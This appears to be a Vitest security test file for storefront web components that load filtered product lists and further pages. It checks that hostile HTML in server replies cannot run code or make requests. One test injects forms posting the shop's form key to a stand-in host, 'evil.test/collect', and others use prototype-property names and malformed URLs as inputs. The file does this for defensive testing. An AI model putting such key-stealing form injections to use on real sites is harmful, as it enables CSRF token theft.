import { configureHost, resetHost } from '@shop-elements/host';
import 'shop-elements';
import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { eventually } from '../support/eventually';
import { drawn } from '../support/page';
import { everything } from './corpus';
import { pressEverything, setTripwires, settled } from './tripwires';

// Replies to filters, toolbars and 'Load more' are the largest external HTML that a page inserts.

/** `pnpm test:long` sends all of them. */
const step = import.meta.env.VITE_LONG ? 1 : 12;
const texts = everything.filter((_, index) => index % step === 0).map(({ text }) => text);

const home = location.href;
const listAddress = `${new URL('/women.html', home)}`;
let visited: string[] = [];

beforeEach(() => {
  visited = [];
  history.replaceState(null, '', listAddress);
  configureHost({ navigate: (url) => visited.push(url) });
  for (const level of ['error', 'warn'] as const) vi.spyOn(console, level).mockImplementation(() => {});
});

afterEach(() => {
  vi.restoreAllMocks();
  resetHost();
  sessionStorage.clear();
  history.replaceState(null, '', home);
  document.title = 'Tests';
});

const html = (text: string): Response => new Response(text, { headers: { 'Content-Type': 'text/html' } });

function answers(reply: () => Response): void {
  configureHost({ navigate: (url) => visited.push(url), fetch: async () => reply() });
}

const card = (text = '') => `<li class="item product product-item"><a href="/p1.html">Tea</a>${text}
  <form action="/cart/add/" method="post"><input type="hidden" name="form_key" value="cached"></form></li>`;

const filters = (text = '') => `<div class="block filter" id="layered-filter-block"><div class="filter-content">
  <div class="filter-options-item"><div class="filter-options-title">Color</div><div class="filter-options-content">
  <ol class="items"><li class="item"><a class="blue" href="/women.html?color=49">Blue</a></li>${text}</ol></div></div></div></div>`;

const toolbar = (text = '') => `<div class="toolbar toolbar-products">
  <p class="toolbar-amount">Items <span class="toolbar-number">1</span> of <span class="toolbar-number">3</span></p>${text}
  <div class="pages"><ul><li class="item"><a class="action next" href="/women.html?p=2">Next</a></li></ul></div></div>`;

const list = (text = '') =>
  `<div class="products wrapper grid"><ol class="products list items product-items">${card(text)}</ol></div>`;

const surroundings = (text = '') => `<div class="breadcrumbs"><ul><li>Women</li>${text}</ul></div>
  <h1 class="page-title">Women${text}</h1><div class="category-description">${text}</div>`;

const wholePage = (text: string): Response =>
  html(`<!doctype html><head><title>Women ${text}</title><link rel="canonical" href="${text}"><meta name="robots" content="${text}"></head>
    <body>${surroundings(text)}${toolbar(text)}${list(text)}${filters(text)}</body>`);

function layeredNav(text = ''): Promise<HTMLElement> {
  const inside = toolbar(text) + list(text) + filters(text);
  return drawn('shop-layered-nav', `${surroundings()}<shop-layered-nav>${inside}</shop-layered-nav>`);
}

/** Applies a filter, and waits for its list or for a navigation. */
async function filter(): Promise<void> {
  const loaded = vi.fn();
  document.addEventListener('shop-layered-nav-loaded', loaded, { once: true });
  press('a.blue');
  await eventually(() => expect(loaded.mock.calls.length + visited.length).toBeGreaterThan(0));
}

/** Loads a list's next page, and waits until it shows or fails. */
async function loadMore(): Promise<HTMLElement> {
  const inside = toolbar() + list();
  const element = await drawn(
    'shop-infinite-scroll',
    `<shop-infinite-scroll data-auto-pages="0">${inside}</shop-infinite-scroll>`,
  );
  press('[data-shop-root] button:not([hidden])');
  await eventually(() => expect(element.querySelector('[role="status"]')?.textContent).toMatch(/shown|could not/));
  return element;
}

function press(selector: string): void {
  const control = document.querySelector<HTMLElement>(selector);
  if (control === null) throw new Error(`nothing to press: ${selector}`);
  control.click();
}

const doors: Readonly<Record<string, (text: string) => Promise<void>>> = {
  async 'a filtered page'(text) {
    answers(() => wholePage(text));
    await layeredNav();
    await filter();
  },
  async 'the parts that the add-on sends'(text) {
    answers(() => Response.json({ navigation: filters(text), products: toolbar(text) + list(text), backUrl: '' }));
    await layeredNav();
    await filter();
  },
  async 'the address that the add-on sends'(text) {
    answers(() => Response.json({ navigation: filters(), products: list(), backUrl: text }));
    await layeredNav();
    await filter();
  },
  async 'the next page of a list'(text) {
    answers(() => wholePage(text));
    await loadMore();
  },
};

test.each(Object.keys(doors))('nothing hostile from %s runs or sends a request', { timeout: 600_000 }, async (door) => {
  const tripwires = await setTripwires();
  for (const text of texts) {
    visited = [];
    await doors[door]?.(text);
    pressEverything(document.body);
    await settled();
    expect(await tripwires.alarms(), text).toEqual([]);
    // A part may contain breadcrumbs with microdata.
    expect(document.body.querySelector('script, iframe, object, embed, meta:not([itemprop]), base'), text).toBeNull();
    expect(visited.filter((url) => !/^https?:/.test(new URL(url, document.baseURI).protocol))).toEqual([]);
    history.replaceState(null, '', listAddress);
  }
});

test('only forms that post to the shop get the form key', async () => {
  // biome-ignore lint/suspicious/noDocumentCookie: the server's own header writes it like this
  document.cookie = 'form_key=today;path=/';
  const key = '<input type="hidden" name="form_key" value="cached">';
  const elsewhere = `<form method="post" action="https://evil.test/collect">${key}</form>
    <form method="post" action="/own">${key}<button formaction="//evil.test/collect">Buy</button></form>
    <form method="post" action="http://[">${key}</form>`;
  answers(() => Response.json({ navigation: filters(), products: list(elsewhere) }));
  await layeredNav();
  await filter();
  const keys = [...document.querySelectorAll<HTMLInputElement>('[name="form_key"]')].map(({ form, value }) => {
    const addresses = [form?.action, ...[...(form?.querySelectorAll('button') ?? [])].map((each) => each.formAction)];
    return { isOwn: addresses.every((address) => address?.startsWith(location.origin)), value };
  });
  expect(keys.filter(({ isOwn }) => isOwn).map(({ value }) => value)).toContain('today');
  expect(keys.filter(({ isOwn, value }) => !isOwn && value !== '')).toEqual([]);
});

test.each(['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'])(
  'a control with data-role="%s" is not treated as part of the toolbar',
  async (role) => {
    const tripwires = await setTripwires();
    const asked = vi.fn();
    answers(() => {
      asked();
      return wholePage('');
    });
    await layeredNav(`<button type="button" class="odd" data-role="${role}" data-value="1">Odd</button>`);
    press('.toolbar .odd');
    await settled();
    expect(asked).not.toHaveBeenCalled();
    expect(visited).toEqual([]);
    expect(location.href).toBe(listAddress);
    expect(await tripwires.alarms()).toEqual([]);
  },
);

test.each(['http://[', 'https://', '//[', 'http://a:b:c/'])('a link to %s does nothing', async (address) => {
  const tripwires = await setTripwires();
  const asked = vi.fn();
  answers(() => {
    asked();
    return wholePage('');
  });
  await layeredNav(`<a class="odd" href="${address}">Odd</a>`);
  press('.filter-content .odd');
  press('.toolbar .odd');
  await settled();
  expect(asked).not.toHaveBeenCalled();
  expect(visited).toEqual([]);
  expect(await tripwires.alarms()).toEqual([]);
});

test('a next page with an invalid URL is not offered', async () => {
  const tripwires = await setTripwires();
  const inside = toolbar().replace('/women.html?p=2', 'http://[') + list();
  await drawn('shop-infinite-scroll', `<shop-infinite-scroll data-auto-pages="0">${inside}</shop-infinite-scroll>`);
  await settled();
  expect(document.querySelector('[data-shop-root] button:not([hidden])')).toBeNull();
  expect(await tripwires.alarms()).toEqual([]);
});

const tooMuch = `<p>${'x'.repeat(5_000_001)}</p>`;

test('if a filtered list is too large, the browser loads it as a page', async () => {
  answers(() => wholePage(tooMuch));
  await layeredNav();
  await filter();
  expect(visited).toEqual([new URL('/women.html?color=49', home).href]);
  expect(document.querySelectorAll('.product-item')).toHaveLength(1);
});

test('if the next page is too large, the list and the link to that page stay', async () => {
  answers(() => wholePage(tooMuch));
  const element = await loadMore();
  expect(element.querySelector('[role="status"]')?.textContent).toBe('More products could not be loaded.');
  expect(element.querySelectorAll('.product-item')).toHaveLength(1);
  expect(element.querySelector('a.next')?.getAttribute('href')).toBe('/women.html?p=2');
});
